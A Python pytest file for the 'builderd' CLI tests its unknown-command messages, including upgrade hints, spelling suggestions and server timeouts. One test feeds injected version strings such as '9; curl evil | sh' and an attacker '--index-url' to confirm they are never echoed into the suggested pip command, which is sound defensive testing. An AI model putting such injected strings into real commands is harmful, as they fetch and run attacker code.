"""Unknown commands: the version that may have one, where the service tells it, and commands with a like name."""

from __future__ import annotations

import json
import socket
import threading
import time
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from tests.threaded_service import Running

from builderd import __version__
from builderd.cli.apps import tools
from builderd.cli.commands import COMMANDS
from builderd.cli.group import CommandGroup, builderd


def refusal(*words: str) -> str:
    """Return the message about an unknown command."""
    result = CliRunner().invoke(builderd, [*words, "--json"], prog_name="builderd")
    assert result.exit_code == 2
    message = json.loads(result.stdout)["message"]
    assert isinstance(message, str)
    return message


@pytest.fixture(autouse=True)
def patience(monkeypatch: pytest.MonkeyPatch) -> None:
    """Wait longer for an answer than a person would: the machine may be busy."""
    monkeypatch.setattr(tools, "ASK_SECONDS", 60)


def tell(monkeypatch: pytest.MonkeyPatch, version: str) -> None:
    """Set the version that the service tells."""
    monkeypatch.setattr("builderd.api.starting.__version__", version)


@pytest.mark.parametrize("version", ["0.1.1", "0.10.0", "1.0"])
def test_a_newer_service_names_the_version_to_install(
    running: Running, monkeypatch: pytest.MonkeyPatch, version: str
) -> None:
    tell(monkeypatch, version)
    assert refusal("teleport") == (
        f"No such command 'teleport'. This is builderd {__version__}, the service is {version}: "
        f"pip install -U builderd=={version}"
    )


@pytest.mark.parametrize(
    ("words", "like"),
    [
        (["backups", "frobnicate"], ""),
        (["token", "frobnicate"], ""),
        (["backups", "resotre"], " Did you mean 'restore'?"),
        (["token", "revok"], " Did you mean 'revoke'?"),
    ],
)
def test_an_unknown_command_of_a_group_gets_the_same_message(
    running: Running, monkeypatch: pytest.MonkeyPatch, words: list[str], like: str
) -> None:
    beginning = f"No such command {words[1]!r} of 'builderd {words[0]}'.{like}"
    assert refusal(*words) == beginning
    tell(monkeypatch, "9.0")
    assert refusal(*words) == (
        f"{beginning} This is builderd {__version__}, the service is 9.0: pip install -U builderd==9.0"
    )


def test_every_group_tells_of_unknown_commands() -> None:
    context = click.Context(builderd)
    groups = {
        name: command for name in COMMANDS if isinstance(command := builderd.get_command(context, name), click.Group)
    }
    assert {"backups", "env", "token", "mcp"} <= set(groups)
    assert [name for name, group in groups.items() if not isinstance(group, CommandGroup)] == []


@pytest.mark.parametrize("version", [__version__, "0.1", "0.0.9"])
def test_no_version_is_named_that_is_not_newer(running: Running, monkeypatch: pytest.MonkeyPatch, version: str) -> None:
    tell(monkeypatch, version)
    assert refusal("teleport") == "No such command 'teleport'."
    assert refusal("depoly") == "No such command 'depoly'. Did you mean 'deploy'?"


@pytest.mark.parametrize(
    "version",
    ["9; curl evil | sh", "9 --index-url=http://evil", "9.0\n", "\x1b[2J9.0", "9.\u0669", "9" * 5000, "", "9.x"],
)
def test_a_version_that_is_none_is_not_shown(running: Running, monkeypatch: pytest.MonkeyPatch, version: str) -> None:
    tell(monkeypatch, version)
    assert refusal("teleport") == (
        f"No such command 'teleport'. This is builderd {__version__}: a later version may have it."
    )


def test_without_a_service_nothing_is_asked(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def connect(*_: object) -> None:
        raise AssertionError("a connection was opened")

    monkeypatch.setattr("socket.socket.connect", connect)
    monkeypatch.setattr("socket.create_connection", connect)
    assert refusal("teleport").endswith(f"This is builderd {__version__}: a later version may have it.")
    assert refusal("depoly") == "No such command 'depoly'. Did you mean 'deploy'?"
    assert refusal("rolback").endswith("Did you mean 'rollback' or 'backup'?")


def test_a_service_that_does_not_answer_in_time_is_not_waited_for(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tools, "ASK_SECONDS", 0.1)
    over = threading.Event()
    with socket.create_server(("127.0.0.1", 0)) as silent:

        def trickle() -> None:
            """Answer with a byte now and then, so that no read times out."""
            connection, _ = silent.accept()
            with connection:
                for byte in b"HTTP/1.1 200 OK\r\nX: " + b"x" * 1000:
                    if over.wait(0.05):
                        return
                    connection.sendall(bytes([byte]))

        thread = threading.Thread(target=trickle)
        thread.start()
        monkeypatch.setenv("BUILDERD_URL", f"http://127.0.0.1:{silent.getsockname()[1]}")
        monkeypatch.setenv("BUILDERD_TOKEN", "t")
        began = time.monotonic()
        message = refusal("teleport")
        seconds = time.monotonic() - began
        over.set()
        thread.join()
    assert message.endswith("a later version may have it.")
    assert seconds < 20  # the answer takes 50 s


def test_the_service_of_the_named_context_is_asked(
    home: Path, running: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    tell(monkeypatch, "9.0")
    assert "9.0" in refusal("teleport")
    for words in (["--context", "elsewhere"], ["--context=elsewhere"]):
        assert "9.0" not in refusal("teleport", *words)
